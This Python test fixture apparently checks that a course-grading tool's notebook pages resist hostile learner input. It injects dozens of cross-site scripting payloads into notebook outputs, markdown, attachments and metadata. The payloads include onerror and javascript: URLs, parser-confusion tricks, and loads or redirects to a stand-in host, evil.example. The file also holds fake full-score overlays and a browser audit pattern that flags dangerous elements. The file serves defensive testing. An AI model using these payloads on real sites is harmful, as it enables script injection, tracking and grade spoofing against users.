"""What learners might put into outputs and texts so that a page obeys them. EVIL stands for a host that is not ours."""

import copy

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from tiny_course import cell

from mftcourse.checks import MIME, Finding, Scorecard

EVIL = "evil.example"
RUN = "alert(1)"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}">x</a><a href=" &#x6a;avascript:{RUN}">x</a><a href="java\tscript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a><a href="vbscript:{RUN}">x</a><a href="//{EVIL}/a">x</a>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mi><table><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror={RUN}>">',
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RUN}></style></annotation-xml></math>',
    f'<math><a xlink:href="javascript:{RUN}">x</a><mi href="javascript:{RUN}">x</mi></math>',
    f'<svg><desc><style><img src="</style><img src=x onerror={RUN}//"></desc></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s /><set onbegin={RUN} attributeName=x /></svg>",
    f'<svg><use href="{SVG}#x"/><image href="http://{EVIL}/b.png"/><foreignObject><img src=x onerror={RUN}></foreignObject></svg>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed><noframes><img title="</noframes><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template><select><template><img src=x onerror={RUN}></template></select>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><plaintext><img src=x onerror={RUN}>',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea><title><img title="</title><img src onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>--><!--!><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]><?xml><img src=x onerror={RUN}?>",
    f"<style>@import 'http://{EVIL}/c.css'; header, main {{ display: none }} body {{ background: url(http://{EVIL}/d) }}</style>",
    f'<div style="position:fixed;inset:0;z-index:9;background:url(http://{EVIL}/e)" class="total part">130 of 130 points</div>',
    f'<link rel="stylesheet" href="http://{EVIL}/f.css"><link rel="prefetch" href="http://{EVIL}/g">',
    f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/h"><base href="http://{EVIL}/i/">',
    f'<form action="http://{EVIL}/j"><input name="memo" class="score" autofocus onfocus={RUN}><button formaction="javascript:{RUN}">x</button></form>',
    f'<img src="http://{EVIL}/k.png" srcset="http://{EVIL}/l.png 2x"><picture><source srcset="http://{EVIL}/m.png"></picture>',
    f'<video poster="http://{EVIL}/n" src="http://{EVIL}/o" onerror={RUN}></video><audio autoplay src="http://{EVIL}/p"></audio>',
    f'<object data="{SVG}"></object><embed src="javascript:{RUN}"><applet code="http://{EVIL}/q"></applet>',
    f"<details open ontoggle={RUN}><summary>x</summary></details><marquee onstart={RUN}>x</marquee>",
    f'<table background="http://{EVIL}/r"><tr><td background="http://{EVIL}/s" colspan="99999">x</td></tr></table>',
    f'<img src="{SVG}"><img src="data:text/html;base64,AAAA"><img src="data:image/png;base64,PHN2Zz4=">',
    f"<body onload={RUN} background=http://{EVIL}/t><html onclick={RUN}><frameset onload={RUN}>",
    f'<input type="image" src="http://{EVIL}/u"><isindex type=image src=1 onerror={RUN}><x onclick={RUN} tabindex=1 onfocus={RUN}>',
    '<div id="main-table"></div></div></div></section></main></details></figure><header><h1>130 of 130 points</h1></header>',
    f'<p data-link="x" data-toggle="tooltip" title="<img src=x onerror={RUN}>" data-html="true">x</p>',
    f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07\x00\ud800<\x00img src=x onerror={RUN}>",
]

MARKDOWN = [
    f"[x](javascript:{RUN}) [x](<javascript:{RUN}>) [x](<java&#115;cript:{RUN}>) [x](javascript&colon;{RUN})",
    f"<javascript:{RUN}> [x](\x01javascript:{RUN}) [x](JaVaScRiPt:{RUN}) [x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x][y] [y] ![y] ![x][y]\n\n[y]: javascript:{RUN}\n[z]: http://{EVIL}/v.png\n\n![x][z] ![z]",
    f"![x](http://{EVIL}/w.png) ![x](//{EVIL}/x.png) [![x](http://{EVIL}/y.png)](javascript:{RUN})",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\require{{html}}\\style{{background:url(http://{EVIL}/z)}}{{x}}$$ &#36;&#92;href{{javascript:{RUN}}}{{x}}&#36;",
    f"$\\text{{<img src=x onerror={RUN}>}}$ $$\\text{{</math><script>{RUN}</script>}}$$ $\\class{{total}}{{130}}$",
    "```mermaid\nflowchart LR\n  a[x]\n  click a call alert(1)\n```\n~~~ mermaid\ngraph TD; a-->b\n~~~",
    f"<details><summary>x</summary><script>{RUN}</script><img\nsrc=x\nonerror={RUN}></details>",
    f'![x](attachment:evil.svg) ![x](attachment:fine.png) ![x](attachment:evil.png" onerror={RUN})',
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f'[a](https://ok.example/"onmouseover={RUN}) [a](https://ok.example \'x" onclick={RUN}\') <https://ok.example/"onclick={RUN}>',
    f"[^1]\n\n[^1]: javascript:{RUN}\n\n*[x]: y\n\n    <script>{RUN}</script>\n\n`<script>{RUN}</script>`",
]

EVERYTHING = HTML + MARKDOWN
ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": SVG.partition(",")[2]},
    "evil.png": {"image/png": "PHN2Zz4="},
    "fine.png": {"image/png": PNG, "text/html": f"<script>{RUN}</script>"},
    f'"><img src=x onerror={RUN}>': {"image/png": PNG},
}

# What a page must not hold below an element, as a browser sees it.
AUDIT = """root => {
  const bad = [];
  for (const e of root.querySelectorAll('*')) {
    if (/^(script|style|iframe|object|embed|form|base|meta|link|svg|template|noscript|video|audio|frame)$/i.test(e.localName))
      bad.push(e.outerHTML.slice(0, 200));
    for (const a of e.attributes)
      if (/^on|^srcdoc$|^srcset$|background|formaction|^data-/i.test(a.name) || a.name === 'style' && a.value) bad.push(a.name + '=' + a.value);
    const link = e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('xlink:href');
    if (link !== null && !/^(https?:|mailto:|#|data:image\\/(png|jpeg);base64,)/.test(link)) bad.push(link);
  }
  return bad;
}"""

CARDS = {
    "mean": [Finding("1, 2 and 9: 4", "failed", 1, "Expected 4, got `6`.", "Add, then <divide>."),
             Finding("one number is its own mean", "passed", 1, "", "What is `len` of it?"),
             Finding("random numbers", "failed", 1, "Not as stated.", "Try some of your own.", hidden=True)],
    "median": [Finding(title, "passed", points, hint="Put them in order.", hidden="other" in title)
               for title, points in (("an unsorted list", 2), ("9 first", 1), ("another unsorted list", 1))],
}  # fmt: skip


def graded(reference):
    """Return the tiny unit as grading leaves it: the mean is wrong, the median right, the memo not graded."""
    nb = copy.deepcopy(reference)
    for name, findings in CARDS.items():
        card = Scorecard(name, sum(f.points for f in findings), findings)
        data = {"text/plain": repr(card), "text/html": card._repr_html_(), MIME: card.to_dict()}
        cell(nb, f"{name}-check").outputs = [new_output("execute_result", data=data, execution_count=3)]
    nb.metadata.mft["grading"] = {
        "notes": ["Missing, and put back: check of mean."],
        "carried": {"median": "Judged with the reference's `mean`, as yours is wrong."},
        "isolation": "", "produced": {"handin": "a" * 64, "when": "2026-03-02T10:00:00+00:00"},
    }  # fmt: skip
    return nb


def poisoned(nb):
    """The same with everything hostile everywhere that a learner reaches."""
    nb = copy.deepcopy(nb)
    bundles = [{"text/html": h, "text/plain": h, "text/latex": h, "text/markdown": h} for h in EVERYTHING]
    bundles += [
        {"image/svg+xml": h, "application/javascript": RUN, "application/vnd.x+json": {"a": 1}} for h in HTML[:3]
    ]
    bundles += [{"image/png": h, "image/jpeg": h, "application/x": h} for h in HTML[:3]]
    outputs = [new_output("display_data", data=b, metadata={"text/html": {"isolated": True}, "image/png": {"width": f'1" onerror="{RUN}'}})
               for b in bundles]  # fmt: skip
    outputs += [new_output("stream", name="stdout", text=h) for h in HTML]
    outputs += [new_output("error", ename=h, evalue=h, traceback=[h]) for h in HTML]
    for at in range(0, len(outputs), 60):
        own = new_code_cell(f"# {HTML[0]}", outputs=outputs[at : at + 60], metadata={"tags": [HTML[1]], "mft": {}})
        nb.cells.insert(3, own)
    cell(nb, "mean").outputs = outputs[:60]
    nb.cells[3:3] = [new_raw_cell(h, metadata={"raw_mimetype": "text/html"}) for h in HTML]
    nb.cells[3:3] = [new_markdown_cell(h, attachments=ATTACHMENTS) for h in EVERYTHING]
    cell(nb, "memo").update(source="\n\n".join(EVERYTHING), attachments=ATTACHMENTS)
    cell(nb, "mean").source += "\n# " + "".join(HTML)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": f"</script><script>{RUN}</script>"}}
    nb.metadata["title"] = HTML[1]
    return nb
